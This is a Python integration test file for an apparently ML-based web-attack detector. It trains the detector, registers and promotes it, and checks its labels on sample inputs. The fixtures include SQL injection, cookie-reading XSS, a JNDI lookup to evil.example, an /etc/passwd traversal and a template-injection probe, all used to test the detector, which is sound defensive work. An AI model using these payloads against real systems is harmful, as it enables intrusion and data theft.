"""The payload target end to end on a real MLflow store: AutoML over the text families,
the false-positive gate, findings in the run, registry, promotion → compact export, the
serving runtime's ``scan``, and ``gatewise scan`` on a file of raw requests."""

from __future__ import annotations

import json

import pytest

pytestmark = [pytest.mark.integration, pytest.mark.slow]


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    import os

    from config.settings import load_settings
    from models.train import train_target
    from tests.conftest import REPO

    saved = {k: os.environ.pop(k) for k in list(os.environ) if k.startswith("GATEWISE_")}
    try:
        s = load_settings(REPO / "gatewise.yaml", data_dir=tmp_path_factory.mktemp("payload"))
    finally:
        os.environ.update(saved)
    t = s.targets["payload"].model_copy(update={"families": ["naive_bayes", "linear"]})
    s = s.model_copy(update={"targets": {**s.targets, "payload": t}})
    r = train_target(s, "payload", n_trials=4, budget=300)
    return s, r


def test_tracked_gated_and_registered(trained):
    from models import registry as reg

    s, r = trained
    assert r.eligible, r.reasons
    assert r.best_params["family"] in ("naive_bayes", "linear") and r.trials == 4
    c = reg.client(s)
    mv = c.get_model_version(r.model_name, r.version)
    assert mv.tags["gate.eligible"] == "true" and mv.tags["target"] == "payload"
    run = c.get_run(r.run_id)
    m = run.data.metrics
    # recall per attack class and the benign false-positive rate, with its bound, at the
    # threshold chosen for a 0.1 % budget on validation rows
    for cls in ("sqli", "xss", "path-traversal", "cmdi", "ssti", "jndi", "crlf"):
        assert f"holdout_recall_{cls}" in m
    assert m["holdout_recall_sqli"] > 0.9 and m["holdout_benign_fpr"] < 0.005
    assert m["holdout_benign_fpr"] <= m["holdout_benign_fpr_upper95"]
    arts = {a.path for a in c.list_artifacts(r.run_id, "findings")}
    assert {
        "findings/per_class.csv",
        "findings/holdout_errors.csv",
        "findings/findings.html",
    } <= arts


def test_promotion_exports_the_compact_scanner_and_serving_scans(trained):
    from features.scanner import CompactScanner
    from models import registry as reg
    from serving.runtime import InputError, Runtime

    s, r = trained
    reg.promote(s, "payload", r.version)
    path = s.scanner_path()
    compact = CompactScanner.load(path)
    assert compact.version == r.version
    rt = Runtime(s)
    values = ["1' or '1'='1", "<script>alert(1)</script>", "Conan O'Brien", "42"]
    out = rt.scan("payload", values)
    assert out["model_version"] == r.version
    labels = [x["label"] for x in out["results"]]
    assert labels == [lab for lab, _ in compact.scan(values)]
    assert labels[0] == "sqli" and labels[1] == "xss" and labels[2:] == ["benign", "benign"]
    with pytest.raises(InputError, match="values"):
        rt.scan("payload", [1, 2])  # type: ignore[list-item]


def test_scan_command_on_raw_requests(trained, tmp_path):
    from typer.testing import CliRunner

    from gatewise.cli import app
    from models import registry as reg

    s, r = trained
    reg.promote(s, "payload", r.version)
    rows = [
        {"method": "GET", "url": "/v1/search?q=red+shoes"},
        {"method": "GET", "url": "/v1/products?id=1%27%20OR%20%271%27%3D%271"},
        {
            "method": "POST",
            "url": "/v1/comments",
            "headers": {"Content-Type": "application/json"},
            "body": {"name": "O'Brien", "text": "<script>alert(document.cookie)</script>"},
        },
        {"url": 7},
        {"url": "/v1/items", "headers": {"User-Agent": "${jndi:ldap://evil.example/a}"}},
    ]
    inp = tmp_path / "requests.jsonl"
    inp.write_text(
        "\n".join(json.dumps(x) for x in rows)
        + "\n../../etc/passwd\n{{7*7}}\n2026-11-02T10:00:00Z\n"
    )
    out = tmp_path / "verdicts.jsonl"
    res = CliRunner().invoke(
        app,
        ["scan", "--input", str(inp), "--output", str(out)],
        env={"GATEWISE_DATA_DIR": str(s.data_dir)},
    )
    assert res.exit_code == 0, res.output
    got = [json.loads(line) for line in out.read_text().splitlines()]
    assert [g["row"] for g in got] == [1, 2, 3, 4, 5, 6, 7, 8]
    assert got[0]["label"] == "benign" and got[1]["label"] == "sqli"
    assert got[2]["label"] == "xss" and got[2]["value"].startswith("<script>")
    assert "url" in got[3]["error"]
    assert got[4]["label"] == "jndi" and got[4]["context"] == "user-agent"
    assert got[5]["kind"] == "value" and got[5]["label"] == "path-traversal"
    # a bare value that starts with a brace is scanned, not refused as bad JSON
    assert got[6]["kind"] == "value" and got[6]["label"] == "ssti"
    assert got[7]["label"] == "benign"
    res = CliRunner().invoke(
        app,
        ["scan", "--input", str(tmp_path / "missing.jsonl")],
        env={"GATEWISE_DATA_DIR": str(s.data_dir)},
    )
    assert res.exit_code == 2 and "--input" in res.output
